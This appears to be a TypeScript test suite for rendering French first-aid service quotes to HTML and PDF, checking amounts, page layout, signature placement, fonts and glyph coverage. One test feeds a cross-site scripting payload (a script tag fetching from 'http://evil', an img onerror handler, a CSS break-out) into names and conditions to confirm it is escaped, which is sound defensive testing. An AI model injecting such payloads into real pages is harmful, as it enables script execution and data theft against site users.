import { plainSpaces } from '@pds/kernel/testing';
import { quoteContent } from '@pds/documents/domain';
import {
  completeDossier,
  customer,
  longConvention,
  longQuote,
  ordinaryQuote,
  rhoneIssuer,
} from '@pds/documents/domain/testing';
import { centsOf, multiplicationOf, priceLinesIn, printedPages } from '@pds/paper/testing';
import { ChromiumPdfRenderer } from '@pds/platform';
import { quotePage } from './quote-page';

const now = Date.parse('2026-11-20T13:30:00Z');
describe('the page of a quote', () => {
  const renderer = new ChromiumPdfRenderer();
  afterAll(() => renderer.close());

  it('shows who, what, when and how much, in the time zone of the event', () => {
    const page = quotePage(ordinaryQuote(1042)).replaceAll('\u00a0', ' ');
    for (const text of [
      'Devis n° 1042',
      'Antenne Lyon Sud',
      'SIRET 775 672 272 00017',
      'À l’attention de Camille Roux',
      '20/11/2026',
      '05/12/2026',
      '09/07/2027 18:00',
      '15/07/2027 00:30',
      'DPS-PE · RIS 11,25',
      '3 h × 12 secouristes<',
      'Agrément de sécurité civile n° AG-69-2026',
      'Certificat d’affiliation n° CA-69-2026',
      'Devis n° 1042 – Festival des Lumières d’été – 7 323,40 €',
      '−348,60 €',
      '7 323,40 €',
      'Exonération de TVA, art. 261-7-1° du CGI',
      '<strong>8 jours</strong>',
    ]) {
      expect(page).toContain(text);
    }
  });

  it('states that the number of rescuers for the actors is to be set if none is proposed', () => {
    const [slot] = completeDossier.slots;
    const dossier = { ...completeDossier, slots: [{ ...slot!, sizing: { ...slot!.sizing, proposedRescuers: null } }] };
    const page = quotePage(quoteContent(1, { dossier, issuer: rhoneIssuer, customer }, now));
    expect(plainSpaces(page)).toContain(plainSpaces('DPS-PE · RIS 3,6 · acteurs : à définir'));
  });

  const asPackage = {
    isPackagePrice: true,
    totalCents: 90_000,
    lines: [
      { label: 'Forfait', quantity: 1, unit: 'unité', unitPriceCents: 90_000, amountCents: 90_000, explanation: '' },
    ],
  };

  it('shows a package price as its single line', () => {
    const dossier = { ...completeDossier, ...asPackage };
    const page = quotePage(quoteContent(1, { dossier, issuer: rhoneIssuer, customer }, now)).replaceAll('\u00a0', ' ');
    expect(page).toContain('900,00 €');
    expect(page).not.toContain('384,00 €');
  });

  it.each([6, 7, 50])('lists the equipment of each of %i slots if the price does not', (count) => {
    const { dossier, issuer } = longConvention(1);
    const slots = dossier.slots.slice(0, count);
    const withoutDetails = {
      lines: slots.flatMap(({ lines }) => lines),
      hidden: { details: true, costing: false, complement: false },
    };
    for (const price of [withoutDetails, asPackage]) {
      const content = quoteContent(1, { dossier: { ...dossier, slots, ...price }, issuer, customer }, now);
      const page = plainSpaces(quotePage(content));
      expect(page.split(plainSpaces('8 h de médecin, 12 repas, 2 lots A, 2 VPS')).length - 1).toBe(count);
    }
  });

  it('says the rescuers of a slot with their supervision, which older quotes do not know', () => {
    const page = (slots: typeof completeDossier.slots) =>
      plainSpaces(
        quotePage(quoteContent(1, { dossier: { ...completeDossier, slots }, issuer: rhoneIssuer, customer }, now)),
      );
    expect(page(completeDossier.slots)).toContain('>4 + 1 encadrement<');
    const older = completeDossier.slots.map(({ supervision: _supervision, ...slot }) => slot);
    expect(page(older)).toContain('>4<');
  });

  it('leads to the terms of sale in force at its issue, where the department has its own', () => {
    const address = 'https://secours.example/conditions-generales-de-vente?departement=69&version=3';
    const issuer = { ...rhoneIssuer, termsOfSale: { version: 3, address } };
    const page = (its: typeof issuer | typeof rhoneIssuer) =>
      quotePage(quoteContent(1, { dossier: completeDossier, issuer: its, customer }, now));
    expect(page(issuer)).toContain(address.replace('&', '&amp;'));
    for (const its of [rhoneIssuer, { ...rhoneIssuer, termsOfSale: null }])
      expect(page(its)).not.toContain('Conditions générales de vente');
  });

  it('names the consumer mediator of the issuer to a private person', () => {
    const issuer = { ...rhoneIssuer, consumerMediator: 'CM2C, 49 rue de Ponthieu, 75008 Paris' };
    const page = (isIndividual: boolean) =>
      quotePage(quoteContent(1, { dossier: completeDossier, issuer, customer: { ...customer, isIndividual } }, now));
    expect(page(true)).toContain(issuer.consumerMediator);
    expect(page(false)).not.toContain('Médiation');
  });

  it('escapes hostile names, conditions and settings', () => {
    const hostile = '"><script>fetch("http://evil")</script><img src=x onerror=y>\\"} body{display:none}';
    const dossier = { ...completeDossier, event: { ...completeDossier.event, name: hostile, place: hostile } };
    const issuer = { ...rhoneIssuer, name: hostile, quoteConditions: hostile, paymentConditions: hostile };
    const page = quotePage(quoteContent(1, { dossier, issuer, customer: { ...customer, name: hostile } }, now));
    expect(page).not.toMatch(/<script|<img|onerror=y>(?!&)/);
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page.slice(page.indexOf('<style>'), page.indexOf('</style>'))).not.toContain('fetch("http');
  });

  it('prints lines that multiply to their amounts and add up to the total, in the PDF itself', async () => {
    for (const [content, lineCount] of [
      [ordinaryQuote(2), 18],
      [longQuote(3), 50 * 15 + 2],
    ] as const) {
      const printed = printedPages(await renderer.render(quotePage(content)));
      const texts = printed.flatMap((page) => page.texts);
      const lines = priceLinesIn(texts);
      expect(lines).toHaveLength(lineCount);
      let cents = 0n;
      for (const line of lines) {
        const { computedCents, printedCents } = multiplicationOf(line);
        expect([line, computedCents]).toEqual([line, printedCents]);
        cents += printedCents;
      }
      expect(centsOf(texts[texts.indexOf('Total à payer') + 1]!)).toBe(cents);
      expect(cents).toBe(BigInt(content.totalCents));
    }
  });

  it('prints fifty slots on at most eleven pages, starting with a summary of one line each', async () => {
    const printed = printedPages(await renderer.render(quotePage(longQuote(3))));
    expect(printed.length).toBeLessThanOrEqual(11);
    const pageOf = (text: string) => printed.findIndex(({ texts }) => texts.some((found) => found.startsWith(text)));
    expect(pageOf('Récapitulatif')).toBe(0);
    expect(pageOf('Lu et approuvé')).toBeLessThan(pageOf('Annexe'));
    expect(printed[pageOf('Lu et approuvé')]!.texts).toContain('Total à payer');
  });

  it('keeps the signature block whole, below the sums and a line of the price, wherever the page ends', async () => {
    for (let count = 12; count < 40; count += 1) {
      const lines = Array.from({ length: count }, () => completeDossier.lines[0]!);
      const slots = [{ ...completeDossier.slots[0]!, lines }];
      const dossier = { ...completeDossier, slots, lines, totalCents: count * lines[0]!.amountCents };
      const content = quoteContent(1, { dossier, issuer: rhoneIssuer, customer }, now);
      const printed = printedPages(await renderer.render(quotePage(content)));
      const { texts } = printed.find((page) => page.texts.includes('Lu et approuvé, bon pour accord, l’organisateur'))!;
      expect(priceLinesIn(texts).length).toBeGreaterThan(0);
      for (const part of ['Total à payer', 'Pour l’association', 'Nom, qualité, date, signature et cachet :']) {
        expect(texts).toContain(plainSpaces(part));
      }
    }
  });

  it.each([
    ['with payment conditions', completeDossier],
    [
      'free of charge',
      {
        ...completeDossier,
        isPackagePrice: true,
        totalCents: 0,
        lines: [{ ...asPackage.lines[0]!, unitPriceCents: 0, amountCents: 0 }],
      },
    ],
  ])('%s prints conditions of any length before its signature blocks, never alone on a page', async (_, dossier) => {
    for (let count = 0; count < 44; count += 3) {
      const article = (number: number) => `<h2>Article ${number}</h2><p>${'Une règle de plus. '.repeat(9)}</p>`;
      const quoteConditions = Array.from({ length: count }, (_item, index) => article(index)).join('');
      const content = quoteContent(1, { dossier, issuer: { ...rhoneIssuer, quoteConditions }, customer }, now);
      const printed = printedPages(await renderer.render(quotePage(content)));
      const texts = printed.flatMap((page) => page.texts);
      const place = texts.indexOf('Pour l’association');
      for (const condition of ['Conditions du devis', `Article ${count - 1}`, 'Conditions de paiement']) {
        expect([condition, texts.indexOf(condition) < place]).toEqual([condition, true]);
      }
      const signed = printed.find((page) => page.texts.includes('Pour l’association'))!.texts;
      const before = signed.slice(0, signed.indexOf('Pour l’association')).join(' ');
      expect([count, before]).toEqual([count, expect.stringMatching(/Total à payer|Une règle|Conditions de paiement/)]);
    }
  });

  it('prints a single slot with ordinary conditions on one page, and a long quote on several', async () => {
    const termsOfSale = {
      version: 3,
      address: 'https://secours.example/conditions-generales-de-vente?departement=69&version=3',
    };
    const issuer = { ...ordinaryQuote(2).issuer, officeName: 'Antenne Lyon Sud', termsOfSale };
    const city = { ...customer, name: 'Commune de Saint-Germain-au-Mont-d’Or – Service des manifestations' };
    for (const sources of [
      { dossier: completeDossier, issuer: rhoneIssuer, customer },
      { dossier: completeDossier, issuer, customer: city },
    ]) {
      expect(printedPages(await renderer.render(quotePage(quoteContent(1, sources, now))))).toHaveLength(1);
    }
    expect(printedPages(await renderer.render(quotePage(ordinaryQuote(2)))).length).toBeGreaterThan(1);
  });

  it('prints no glyph 0, for any typed text in any field', async () => {
    const typed =
      'Łukasz Őry ≤ 10 → Ωμέγα Київ 東京 שלום العربية हिन्दी 🎉👩‍🚒 ☎️ e\u0301 1\u202f234 \u2011 \ue000 \u0378 \u{1f9ff}';
    const { event, slots } = completeDossier;
    const dossier = {
      ...completeDossier,
      event: { ...event, name: typed, place: typed },
      slots: slots.map((slot) => ({ ...slot, name: typed })),
    };
    const issuer = {
      ...rhoneIssuer,
      name: typed,
      quoteConditions: `<h2>${typed}</h2><b>${typed}</b>`,
      paymentConditions: typed,
    };
    const content = quoteContent(1, { dossier, issuer, customer: { ...customer, name: typed } }, now);
    const printed = printedPages(await renderer.render(quotePage(content)));
    expect(printed.map(({ missingGlyphs }) => missingGlyphs)).toEqual(printed.map(() => 0));
    const text = printed.flatMap(({ texts }) => texts).join(' ');
    for (const part of ['Łukasz Őry ≤ 10 → Ωμέγα Київ 東京', 'é 1 234']) expect(text).toContain(part);
  });

  it('embeds the letterhead font as real outlines, including accents beyond Latin-1', async () => {
    const accented = { ...customer, name: 'Łukasz Őry' };
    const pdf = await renderer.render(
      quotePage(quoteContent(1, { dossier: completeDossier, issuer: rhoneIssuer, customer: accented }, now)),
    );
    const text = pdf.toString('latin1');
    expect(text).toMatch(/\/BaseFont \/[A-Z]{6}\+PublicSans/);
    expect(text).not.toContain('/Subtype /Type3');
  });
});
